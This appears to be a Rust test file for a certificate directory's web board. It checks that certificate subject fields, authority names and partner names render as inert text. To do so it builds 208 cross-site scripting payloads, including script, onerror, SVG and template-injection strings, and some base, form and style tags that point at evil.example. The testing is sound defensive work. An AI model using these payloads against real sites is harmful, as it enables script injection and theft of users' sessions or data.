//! T-100: whatever strangers write is text, in every field and on every page that shows it.

use crypto::KeyKind;
use directory::{Actor, Language, NewPerson, Origin, Role, Roles, Submission};
use pki::{CertificateBuilder, Issuer, Subject};
use testkit::TestPki;

use crate::house::{House, address};

/// 208 payloads: each trick with each way to begin it.
fn payloads() -> Vec<String> {
    let begins = [
        "",
        "\">",
        "'>",
        "</title>",
        "</td></tr></table>",
        "-->",
        "]]>",
        "\u{0}",
        "{{",
        "${",
        "&lt;",
        "\\x3c",
        "\r\n\r\n",
    ];
    let tricks = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script xlink:href=//evil.example></script></svg>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "\" autofocus onfocus=alert(1) x=\"",
        "' onmouseover=alert(1) y='",
        "javascript:alert(1)//<a href=javascript:alert(1)>x</a>",
        "<style>@import '//evil.example'</style>",
        "<base href=//evil.example>",
        "<form action=//evil.example><input name=csrf>",
        "<meta http-equiv=refresh content='0;//evil.example'>",
        "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
        "\u{202e}<details open ontoggle=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "{{constructor.constructor('alert(1)')()}}<x>",
    ];
    begins.iter().flat_map(|begin| tricks.iter().map(move |trick| format!("{begin}{trick}"))).collect()
}

#[test]
fn t_100_certificates_are_text_to_the_officer_who_looks_at_them() {
    let payloads = payloads();
    assert!(payloads.len() >= 200);
    let house = House::open();
    let pki = TestPki::shared();
    let now = testkit::now();
    let key = std::sync::Arc::new(crypto::SoftwareKey::generate(KeyKind::P256).unwrap());
    let otto = house.logged_in("otto@muster.example", "de");
    let submit = |index: usize, subject: Subject, issuer: &Issuer| {
        let at = address(&format!("p{index}@partner.example"));
        let builder = CertificateBuilder::mailbox(subject, at.email().clone(), now.plus_days(-9), now.plus_days(300));
        let leaf = issuer.issue_credential(&builder, key.clone()).unwrap();
        let by = Actor::Mail(at.clone());
        let mut submission = Submission::new(at, leaf.certificate().clone(), Origin::IntakeMail, by);
        submission.intermediates = vec![issuer.certificate().clone()];
        house.run(house.directory.submit(submission))
    };
    let subject = |texts: &dyn Fn(usize) -> String| Subject {
        common_name: texts(0),
        organization: Some(texts(1)),
        organization_identifier: Some(texts(2)),
        given_name: Some(texts(3)),
        surname: Some(texts(4)),
        country: None,
    };
    let harmless = submit(9999, subject(&|field| format!("harmless {field}")), pki.ca());
    let expected = otto.get(&format!("/board/requests/{}", harmless.id()));
    assert_eq!(expected.status, 200);
    for index in 0..payloads.len() {
        // Over all of them, every payload stands in every field once.
        let of = |field: usize| payloads[(index + field * 37) % payloads.len()].clone();
        let request = submit(index, subject(&of), pki.ca());
        let page = otto.get(&format!("/board/requests/{}", request.id()));
        assert_eq!(page.status, 200, "{}", of(0));
        assert_eq!(page.structure(), expected.structure(), "{}", of(0));
    }
    // The name of an authority that nobody knows.
    let root = |name: &str| {
        let builder = CertificateBuilder::authority(
            Subject::named(name).of(name),
            Some(1),
            now.plus_days(-9),
            now.plus_days(900),
        );
        Issuer::new_root(key.clone(), &builder).unwrap()
    };
    let harmless = submit(20_000, Subject::named("x"), &root("harmless"));
    let expected = otto.get(&format!("/board/requests/{}", harmless.id()));
    for (index, payload) in payloads.iter().enumerate().step_by(5) {
        let request = submit(20_001 + index, Subject::named("x"), &root(payload));
        let page = otto.get(&format!("/board/requests/{}", request.id()));
        assert_eq!(page.structure(), expected.structure(), "{payload}");
    }
    for path in ["/board", "/board/authorities", "/board/audit"] {
        let page = otto.get(path);
        assert_eq!(page.status, 200);
        for tag in page.structure() {
            let name = tag.split_whitespace().next().unwrap_or_default();
            assert!(
                !["script", "img", "iframe", "style", "base", "math", "template", "x"].contains(&name),
                "{path}: <{tag}>"
            );
            assert!(!tag.contains(" on"), "{path}: <{tag}>");
        }
    }
}

#[test]
fn t_100_names_of_people_are_text() {
    let list = |name: &dyn Fn(usize) -> String| {
        let house = House::open();
        let emma = house.person("emma@muster.example");
        for index in 0..payloads().len() {
            let new = NewPerson {
                address: address(&format!("n{index}@partner.example")),
                name: name(index),
                company: Some(name(index)),
                language: Language::English,
                roles: Roles::of([Role::Partner]),
                contact: Some(emma.id),
            };
            house.run(house.directory.add_person(new, &Actor::System));
        }
        // All of them, page by page.
        let emma = house.logged_in("emma@muster.example", "en");
        let (mut structure, mut path, mut pages) = (Vec::new(), String::from("/partners"), 0);
        loop {
            let page = emma.get(&path);
            assert!(page.status == 200 && page.html.len() < 100 << 10, "{}", page.html.len());
            structure.extend(page.structure());
            pages += 1;
            let Some((_, rest)) = page.html.split_once("href=\"/partners?after=") else { break };
            path = format!("/partners?after={}", rest.split('"').next().unwrap());
        }
        assert!(pages > 4, "{pages}");
        structure
    };
    let all = payloads();
    assert_eq!(list(&|index| all[index].clone()), list(&|_| "harmless".into()));
}
